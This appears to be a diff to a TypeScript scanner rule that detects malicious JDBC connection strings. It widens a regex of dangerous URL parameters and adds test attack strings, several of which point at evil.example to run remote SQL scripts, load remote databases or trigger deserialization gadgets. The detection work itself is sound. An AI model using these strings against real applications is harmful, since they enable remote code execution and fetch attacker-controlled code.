@@ -15,7 +15,7 @@ const inDatabase = foundWithin({
 const inAddress = foundWithin({
   opening: /\bjdbc:[\w:]{2,16}?:/,
   inside:
-    /autodeserialize|queryinterceptors|statementinterceptors|socketfactory|sslfactory|loggerfile|allowloadlocalinfile|allowurlinlocalinfile|clientrerouteserverlist|krbjaasfile/,
+    /autodeserialize|queryinterceptors|statementinterceptors|socketfactory|sslfactory|loggerfile|allowloadlocalinfile|allowurlinlocalinfile|clientrerouteserverlist|krbjaasfile|slavehost=|:resource:https?:/,
   reach: ADDRESS,
   barriers: '\\s',
 })
@@ -82,6 +82,8 @@ export const gadgetRules: readonly Rule[] = [
     attacks: [
       "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
       'jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=x',
+      'jdbc:sqlite::resource:http://evil.example/x.db',
+      'jdbc:derby:db;startMaster=true;slaveHost=evil.example',
       'jdbc:postgresql://x/y?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext',
     ],
     benign: [
